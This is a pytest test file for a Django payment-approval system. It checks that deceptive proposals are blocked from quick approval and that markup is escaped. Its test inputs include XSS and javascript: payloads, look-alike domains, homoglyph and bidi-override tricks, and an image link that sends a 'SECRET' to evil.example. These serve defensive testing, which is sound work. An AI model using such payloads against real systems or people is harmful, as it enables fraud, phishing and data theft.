"""Proposals that try to deceive: what a tired person would have approved, and what stops them."""

import re
from html import unescape
from typing import Any

import pytest
from django.test import Client

from approvals.models import Proposal
from approvals.shown import view_of
from tests.workflows.conftest import Desk
from tests.workflows.test_compared import made, payouts, propose

__all__ = ["payouts"]
pytestmark = pytest.mark.django_db

TAIL = "Thank you for your order.\n" + "\n" * 300 + "P.S. The rest, EUR 99,999.00, goes to acct_evil."
HIDDEN = dict.fromkeys(["\u202e", "\u200b", "\u2066", "\ufeff", "\u00ad", "\U000e0041"])

# What is proposed, and the lines of the checklist that a reviewer has to tick before it can be approved.
TRICKS: list[tuple[str, dict[str, Any], set[str]]] = [
    ("a long tail", {"message": TAIL}, set()),
    ("a look-alike domain", {"receipt_to": "billing@harbour-1ane.example"}, {"lookalike_host", "first_host"}),
    ("an account that reads like the known one", {"account": "acct_I2345"}, {"lookalike_value", "first_account"}),
    ("an amount from right to left", {"message": "Pay \u202e00.001\u202c EUR."}, {"bidi_control"}),
    ("a Hebrew amount with an override", {"payee": "שלום \u202d100\u202c"}, {"bidi_control"}),
    ("hidden characters", {"message": "Pay\u200b Ann\U000e0041"}, {"invisible", "tag_chars"}),
    ("a payee with a letter of another script", {"payee": "Hаrbour Lane"}, {"mixed_script", "lookalike_value"}),
    ("a payee with a space behind it", {"payee": "Harbour Lane "}, {"lookalike_value"}),
    ("a link with a name before the @", {"message": "https://harbour-lane.example@evil.example/"},
        {"link_userinfo", "first_host"}),
    ("a Markdown link to another host", {"message": "[harbour-lane.example](https://evil.example)"},
        {"link_other_host", "first_host"}),
    ("an HTML link to another host", {"message": '<a href="https://evil.example">harbour-lane.example</a>'},
        {"link_other_host", "first_host"}),
    ("a link to an address", {"message": "http://2130706433/pay"}, {"link_ip_literal", "first_host"}),
    ("a link that runs something", {"message": "[invoice](javascript:alert(1))"}, {"link_scheme"}),
    ("one strange recipient in a thousand",
        {"copies": [f"p{n}@harbour-lane.example" for n in range(999)] + ["p@evil.example"]}, {"first_host"}),
    ("a terminal command", {"message": "\x1b[2K\rPay 1 EUR"}, {"ansi_escape", "control"}),
]  # fmt: skip


@pytest.mark.parametrize(("what", "changes", "codes"), TRICKS, ids=[what for what, _, _ in TRICKS])
def test_it_cannot_be_approved_at_a_glance(
    payouts: Desk, what: str, changes: dict[str, Any], codes: set[str]
) -> None:
    made(payouts, payee="Harbour Lane")
    proposal = propose(payouts, **({"payee": "Harbour Lane"} | changes))
    found = {warning.code for warning in view_of(proposal).warnings if warning.acknowledge}
    assert codes <= found
    html, answer = glance(payouts, proposal)
    assert answer.status_code == 422
    assert Proposal.objects.get(pk=proposal.pk).status == "pending"
    assert "Approve is closed" in html
    assert not {sign for sign in HIDDEN if sign in html}
    assert not re.search(r"<(?:a|img|script)[^>]*(?:evil\.example|javascript:)", html)


def test_the_plain_one_can(payouts: Desk) -> None:
    made(payouts, payee="Harbour Lane")
    _, answer = glance(payouts, propose(payouts, payee="Harbour Lane", message="Thank you."))
    assert answer.status_code == 302


def glance(desk: Desk, proposal: Proposal) -> tuple[str, Any]:
    """Open the page and approve what stands there, opening and ticking nothing; the page, and the answer."""
    client = Client()
    client.force_login(desk.ada)
    html = client.get(f"/review/{proposal.pk}/").content.decode()
    receipts = re.findall(r'name="receipt" value="([^"]+)"', html)
    data = {
        "decision": "approve", "digest": proposal.digest, "view_digest": proposal.view_digest, "receipt": receipts,
    }  # fmt: skip
    return html, client.post(f"/review/{proposal.pk}/decide/", data)


def test_markup_stays_text_wherever_it_comes_from(payouts: Desk) -> None:
    evil = (
        "<img src=x onerror=alert(1)>[x](https://evil.example) ![y](https://evil.example/p?d=SECRET) **bold**"
    )
    html, _ = glance(payouts, propose(payouts, message=evil, payee=evil[:60]))
    assert "<img" not in html.replace('<img src="/static', "")
    assert 'href="https://evil' not in html
    assert "<strong>" not in html
    assert evil[:40] in unescape(html)
